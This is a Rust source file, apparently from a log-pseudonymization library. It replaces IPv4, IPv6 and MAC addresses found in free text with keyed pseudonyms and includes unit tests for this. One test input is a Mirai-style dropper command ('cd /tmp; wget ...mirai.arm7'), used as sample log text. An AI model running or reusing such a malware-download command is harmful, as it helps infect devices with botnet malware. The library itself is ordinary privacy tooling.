//! Addresses inside free text: every token that is a whole IPv4 or IPv6 address or MAC
//! address is replaced with its pseudonym, wherever it stands (a URL, a command line, a banner).
//!
//! A token is a maximal run of `A-Z a-z 0-9 . : _ -`: every other character ends it, so
//! `http://198.18.0.66/bins/x` holds the token `198.18.0.66` and `[fe80::1]:80` the token
//! `fe80::1`. A token that does not parse completely is searched for IPv4 addresses
//! (`198.18.0.66:8080`, `10.0.0.1-10.0.0.9`) and MAC addresses standing apart inside it;
//! nothing else is touched, so times (`23:59:41.39`), versions (`lighttpd/1.4.69`) and
//! Community IDs (`1:base64=`) stay as they are.

use std::net::{IpAddr, Ipv4Addr};

use crate::error::Result;
use crate::mac::{format_mac, parse_mac};
use crate::pseudonymizer::Pseudonymizer;

/// What an address becomes inside text when the policy drops addresses of its kind.
pub const DROPPED: &str = "(dropped)";

/// Counts of what was replaced.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub(crate) struct Counts {
    /// IP addresses replaced (occurrences).
    pub addresses: u64,
    /// MAC addresses replaced (occurrences).
    pub macs: u64,
    /// Values dropped (keys, array elements, addresses).
    pub dropped: u64,
}

/// True for the characters a token is made of.
#[inline]
fn is_token_char(c: char) -> bool {
    c.is_ascii_alphanumeric() || matches!(c, '.' | ':' | '_' | '-')
}

/// The replacement of a whole token that is an address, `None` when it is not one.
fn replace_whole(
    p: &mut Pseudonymizer,
    token: &str,
    counts: &mut Counts,
) -> Result<Option<String>> {
    // The cheapest test first: an address holds '.' or ':'.
    if !token.contains(['.', ':', '-']) {
        return Ok(None);
    }
    if let Ok(addr) = token.parse::<IpAddr>() {
        return Ok(Some(match p.apply_ip(addr)? {
            Some(mapped) => {
                counts.addresses += 1;
                mapped.to_string()
            }
            None => {
                counts.dropped += 1;
                DROPPED.to_owned()
            }
        }));
    }
    if token.len() == 17 {
        if let Ok(mac) = parse_mac(token) {
            return Ok(Some(match p.apply_mac(mac) {
                Some(mapped) => {
                    counts.macs += 1;
                    format_mac(mapped)
                }
                None => {
                    counts.dropped += 1;
                    DROPPED.to_owned()
                }
            }));
        }
    }
    Ok(None)
}

/// A MAC address (`xx:xx:xx:xx:xx:xx` or with `-`) starting at byte `at` of `bytes`.
fn mac_at(bytes: &[u8], at: usize) -> bool {
    let Some(cand) = bytes.get(at..at.saturating_add(17)) else {
        return false;
    };
    let sep = cand.get(2).copied();
    if !matches!(sep, Some(b':' | b'-')) {
        return false;
    }
    cand.iter().enumerate().all(|(i, &b)| {
        if i % 3 == 2 {
            Some(b) == sep
        } else {
            b.is_ascii_hexdigit()
        }
    })
}

/// Replaces the addresses standing apart inside a token that is not itself an address.
fn replace_inside(p: &mut Pseudonymizer, token: &str, counts: &mut Counts) -> Result<String> {
    let bytes = token.as_bytes();
    let mut out = String::with_capacity(token.len());
    let mut copied = 0;
    let mut i = 0;
    // A candidate may start only after a character that cannot continue it.
    let apart_before = |i: usize| {
        i == 0
            || bytes
                .get(i - 1)
                .is_some_and(|b| !b.is_ascii_alphanumeric() && *b != b'.')
    };
    while i < bytes.len() {
        if apart_before(i) && mac_at(bytes, i) {
            let end = i + 17;
            if bytes
                .get(end)
                .is_none_or(|b| !b.is_ascii_hexdigit() && *b != b':')
            {
                if let Some(text) = token.get(i..end) {
                    if let Some(new) = replace_whole(p, text, counts)? {
                        out.push_str(token.get(copied..i).unwrap_or_default());
                        out.push_str(&new);
                        copied = end;
                        i = end;
                        continue;
                    }
                }
            }
        }
        if apart_before(i) && bytes.get(i).is_some_and(u8::is_ascii_digit) {
            let len = bytes
                .get(i..)
                .unwrap_or_default()
                .iter()
                .take_while(|b| b.is_ascii_digit() || **b == b'.')
                .count();
            let mut end = i + len;
            // A trailing dot ends a sentence, not an address.
            while end > i && bytes.get(end - 1) == Some(&b'.') {
                end -= 1;
            }
            let after_ok = bytes
                .get(end)
                .is_none_or(|b| !b.is_ascii_alphanumeric() && *b != b'_');
            if let Some(text) = token.get(i..end) {
                if after_ok && text.parse::<Ipv4Addr>().is_ok() {
                    if let Some(new) = replace_whole(p, text, counts)? {
                        out.push_str(token.get(copied..i).unwrap_or_default());
                        out.push_str(&new);
                        copied = end;
                    }
                }
            }
            i += len.max(1);
            continue;
        }
        i += 1;
    }
    out.push_str(token.get(copied..).unwrap_or_default());
    Ok(out)
}

/// Rewrites every address in `text`; `None` when `text` is exactly one address that the
/// policy drops (the caller removes the value).
pub(crate) fn rewrite_text(
    p: &mut Pseudonymizer,
    text: &str,
    counts: &mut Counts,
) -> Result<Option<String>> {
    // Whole-value addresses first (most identifier fields), so a drop removes the field.
    if let Some(new) = replace_whole(p, text, counts)? {
        return Ok((new != DROPPED).then_some(new));
    }
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while !rest.is_empty() {
        let start = rest.find(is_token_char).unwrap_or(rest.len());
        let (gap, tail) = rest.split_at(start);
        out.push_str(gap);
        let len = tail.find(|c| !is_token_char(c)).unwrap_or(tail.len());
        let (token, tail) = tail.split_at(len);
        if !token.is_empty() {
            match replace_whole(p, token, counts)? {
                Some(new) => out.push_str(&new),
                None => {
                    let trimmed = token.trim_matches(['.', '-', '_']);
                    let lead = token.len() - token.trim_start_matches(['.', '-', '_']).len();
                    match replace_whole(p, trimmed, counts)? {
                        Some(new) if trimmed.len() != token.len() => {
                            out.push_str(token.get(..lead).unwrap_or_default());
                            out.push_str(&new);
                            out.push_str(token.get(lead + trimmed.len()..).unwrap_or_default());
                        }
                        _ => out.push_str(&replace_inside(p, token, counts)?),
                    }
                }
            }
        }
        rest = tail;
    }
    Ok(Some(out))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{Policy, PseudonymKey};

    fn p() -> Pseudonymizer {
        let key = PseudonymKey::from_cryptopan_hex(
            "1522178d33a4cf80130a5b1649907d10d8988f837979652762574c2d2a842202",
        )
        .unwrap();
        Pseudonymizer::new(&key, Policy::default())
    }

    fn rw(text: &str) -> String {
        rewrite_text(&mut p(), text, &mut Counts::default())
            .unwrap()
            .unwrap()
    }

    #[test]
    fn addresses_in_urls_and_text_are_replaced() {
        let mut p = p();
        let ip = p.ip("198.18.0.66".parse().unwrap()).unwrap().to_string();
        let ip6 = p.ip("fe80::1".parse().unwrap()).unwrap().to_string();
        let mac = format_mac(p.mac(parse_mac("6e:e3:c6:46:7b:80").unwrap()));
        assert_eq!(
            rw("cd /tmp; wget http://198.18.0.66/bins/mirai.arm7"),
            format!("cd /tmp; wget http://{ip}/bins/mirai.arm7")
        );
        assert_eq!(rw("198.18.0.66:8080"), format!("{ip}:8080"));
        assert_eq!(rw("from 198.18.0.66."), format!("from {ip}."));
        assert_eq!(rw("[fe80::1]:80"), format!("[{ip6}]:80"));
        assert_eq!(rw("fe80::1"), ip6);
        assert_eq!(rw("mac=6E:E3:C6:46:7B:80;"), format!("mac={mac};"));
        assert_eq!(rw("6e-e3-c6-46-7b-80"), mac);
        assert_eq!(rw("198.18.0.66-198.18.0.66"), format!("{ip}-{ip}"));
    }

    #[test]
    fn times_versions_and_community_ids_stay() {
        for text in [
            "23:59:41.39",
            "2026-11-25T23:59:41.390047+0000",
            "lighttpd/1.4.69",
            "curl/7.88.1",
            "1:YYjUv/D6zBIsBh0xr6pDeZx422o=",
            "1:+Is4v7d/ItikYez563BRxfBXtjU=",
            "GP-TM-21",
            "T1078.001",
            "v1.2.3.4",
            "1.2.3.4.5",
            "abc",
            "",
        ] {
            assert_eq!(rw(text), text);
        }
    }

    #[test]
    fn a_dropped_address_goes() {
        let key = PseudonymKey::generate().unwrap();
        let policy = Policy::default()
            .with_action(crate::FieldClass::Ip, crate::Action::Drop)
            .unwrap();
        let mut p = Pseudonymizer::new(&key, policy);
        let mut c = Counts::default();
        assert_eq!(rewrite_text(&mut p, "10.0.0.1", &mut c).unwrap(), None);
        assert_eq!(
            rewrite_text(&mut p, "to 10.0.0.1 now", &mut c).unwrap(),
            Some(format!("to {DROPPED} now"))
        );
        assert_eq!(c.dropped, 2);
    }
}
